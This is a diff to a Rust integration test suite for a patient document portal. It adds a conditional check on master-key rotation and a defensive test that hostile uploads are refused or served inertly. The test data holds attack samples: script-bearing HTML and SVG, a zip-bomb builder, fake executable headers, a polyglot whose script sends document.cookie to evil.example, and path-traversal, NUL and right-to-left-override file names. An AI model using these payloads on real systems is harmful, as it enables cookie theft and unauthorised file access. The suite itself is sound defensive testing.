@@ -455,14 +455,20 @@ async fn keys_rotate_without_touching_blobs_and_erasure_shreds_everything() -> R
     // A new patient key: the data keys are re-wrapped, the blob is untouched, it still reads.
     assert_eq!(w.t.app.console_rotate_patient_key("ZZZ0016").await?, 2, "the letter and the upload");
     assert!(p1.get_bytes(&url, None).await?.2 == body);
-    // A new master key, with the portal running: patient keys re-wrapped, blobs untouched.
-    app::keys::begin_master_rotation(&w.t.data_dir)?;
-    let n = w.t.app.rewrap_patient_keys(|_| {}).await?;
-    assert!(n >= 1);
-    assert_eq!(w.t.app.keys_left_to_rewrap().await?, 0);
-    app::keys::finish_master_rotation(&w.t.data_dir)?;
-    assert!(p1.get_bytes(&url, None).await?.2 == body, "still readable under the new master key");
-    assert!(w.t.app.blobs()?.get(&key).await? == blob_before, "no blob was re-encrypted");
+    // A new master key file, with the portal running: patient keys re-wrapped, blobs untouched.
+    // (With a token the master key never leaves it; its rotation is a new key label.)
+    if key_backend() == "file" {
+        app::keys::begin_master_rotation(&w.t.data_dir)?;
+        let n = w.t.app.rewrap_patient_keys(|_| {}).await?;
+        assert!(n >= 1);
+        assert_eq!(w.t.app.keys_left_to_rewrap().await?, 0);
+        app::keys::finish_master_rotation(&w.t.data_dir)?;
+        assert!(p1.get_bytes(&url, None).await?.2 == body, "still readable under the new master key");
+        assert!(w.t.app.blobs()?.get(&key).await? == blob_before, "no blob was re-encrypted");
+        // A patient key made by a node that had not yet seen the rotation is still readable:
+        // the retired key keeps unwrapping until its file is destroyed.
+        assert!(w.t.data_dir.join("retired-keys").read_dir()?.count() == 1);
+    }
     // Rotations racing uploads: whatever was acknowledged stays readable (a commit under the old
     // key version either lands before the rotation and is re-wrapped, or is refused; a rotation
     // that would strand a document is refused instead).
@@ -772,5 +778,95 @@ async fn a_gibibyte_round_trips_streamed_in_bounded_memory() -> Result<()> {
         down.as_secs_f64()
     );
     assert!(grew_mib < 200, "memory must not grow with the document: grew {grew_mib} MiB for 1 GiB");
+    Ok(())
+}
+
+/// A Word-looking zip whose directory claims 4 GiB of content from a few bytes.
+fn zip_bomb() -> Vec<u8> {
+    let mut out = b"PK\x03\x04".to_vec();
+    out.extend(std::iter::repeat_n(0u8, 200));
+    let cd_offset = u32::try_from(out.len()).unwrap();
+    let mut cd = Vec::new();
+    for name in ["[Content_Types].xml", "word/document.xml", "word/bomb1.xml", "word/bomb2.xml"] {
+        cd.extend_from_slice(b"PK\x01\x02");
+        cd.extend_from_slice(&[0; 6]);
+        cd.extend_from_slice(&8u16.to_le_bytes());
+        cd.extend_from_slice(&[0; 8]);
+        cd.extend_from_slice(&100u32.to_le_bytes());
+        cd.extend_from_slice(&0x3FFF_FFFFu32.to_le_bytes());
+        cd.extend_from_slice(&u16::try_from(name.len()).unwrap().to_le_bytes());
+        cd.extend_from_slice(&[0; 16]);
+        cd.extend_from_slice(name.as_bytes());
+    }
+    let cd_size = u32::try_from(cd.len()).unwrap();
+    out.extend_from_slice(&cd);
+    out.extend_from_slice(b"PK\x05\x06");
+    out.extend_from_slice(&[0; 4]);
+    out.extend_from_slice(&4u16.to_le_bytes());
+    out.extend_from_slice(&4u16.to_le_bytes());
+    out.extend_from_slice(&cd_size.to_le_bytes());
+    out.extend_from_slice(&cd_offset.to_le_bytes());
+    out.extend_from_slice(&0u16.to_le_bytes());
+    out
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn hostile_uploads_are_refused_or_served_inertly() -> Result<()> {
+    let w = World::new().await?;
+    let mut p1 = w.signed_in("p1@example.nz", [127, 0, 42, 1]).await?;
+    let p = w.patient1.to_string();
+    let upload = |name: &str| format!("/api/v1/patients/{p}/documents?filename={name}");
+    let send = |b: &mut Browser, url: String, bytes: Vec<u8>| {
+        let mut b = b.clone();
+        async move { b.send(Method::POST, &url, Some("application/octet-stream"), bytes).await }
+    };
+    // Refused, with the reason, and nothing kept.
+    for (what, name, bytes, reason) in [
+        ("HTML", "letter.pdf", b"<!doctype html><html><body onload=alert(1)>hi</body></html>".to_vec(), "Web pages"),
+        ("SVG with script", "chart.png", b"<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>".to_vec(), "SVG"),
+        ("a zip bomb named .docx", "notes.docx", zip_bomb(), "could not be checked safely"),
+        ("an executable named .pdf", "scan.pdf", b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00\xb8\x00\x00\x00\x00\x00\x00\x00\x40\x00PE\x00\x00".to_vec(), "not accepted"),
+        ("an ELF executable named .txt", "notes.txt", b"\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00\x3e\x00".to_vec(), "not accepted"),
+    ] {
+        let r = send(&mut p1, upload(name), bytes).await?;
+        assert_eq!(r.status, StatusCode::UNSUPPORTED_MEDIA_TYPE, "{what}: {}", r.body);
+        assert!(r.body.contains(reason), "{what}: {}", r.body);
+    }
+    assert!(sql_strings(&w.t, "SELECT title FROM documents WHERE category = 'patient_upload'").await?.is_empty());
+    // A PDF that is also an HTML page is a PDF: stored, and served only as an inert attachment.
+    let polyglot =
+        b"%PDF-1.4\n<html><script>document.location='https://evil.example/'+document.cookie</script></html>\n%%EOF\n"
+            .to_vec();
+    let r = send(&mut p1, upload("polyglot.html"), polyglot.clone()).await?;
+    assert_eq!(r.status, StatusCode::CREATED, "{}", r.body);
+    let id = serde_json::from_str::<Value>(&r.body)?["id"].as_str().unwrap_or_default().to_owned();
+    let (status, headers, body) = p1.get_bytes(&format!("/documents/{id}/download"), None).await?;
+    assert_eq!(status, StatusCode::OK);
+    assert!(body == polyglot);
+    assert_eq!(headers[header::CONTENT_TYPE], "application/pdf", "never text/html");
+    let disposition = headers[header::CONTENT_DISPOSITION].to_str()?;
+    assert!(disposition.starts_with("attachment;") && disposition.contains("polyglot.pdf"), "{disposition}");
+    assert_eq!(headers[header::X_CONTENT_TYPE_OPTIONS], "nosniff");
+    assert!(headers[header::CONTENT_SECURITY_POLICY].to_str()?.starts_with("sandbox"));
+    // Hostile file names are cleaned: no path, no NUL, no right-to-left override.
+    for (raw, want) in [
+        ("..%2F..%2F..%2Fetc%2Fpasswd.pdf", "passwd.pdf"),
+        ("report%00.exe.pdf", "report.exe.pdf"),
+        ("invoice%E2%80%AEfdp.exe", "invoicefdp.pdf"),
+        ("%2E%2E", "document.pdf"),
+    ] {
+        let r = send(&mut p1, upload(raw), pdf("named", 200)).await?;
+        assert_eq!(r.status, StatusCode::CREATED, "{raw}: {}", r.body);
+        let v: Value = serde_json::from_str(&r.body)?;
+        assert_eq!(v["filename"], want, "{raw}");
+        let (_, headers, _) =
+            p1.get_bytes(&format!("/api/v1/documents/{}/content", v["id"].as_str().unwrap_or_default()), None).await?;
+        let d = headers[header::CONTENT_DISPOSITION].to_str()?;
+        assert!(!d.contains('/'), "{raw}: {d}");
+        assert!(
+            !d.contains("..") && !d.contains('\0') && !d.contains('\u{202E}') && !d.contains("%E2%80%AE"),
+            "{raw}: {d}"
+        );
+    }
     Ok(())
 }
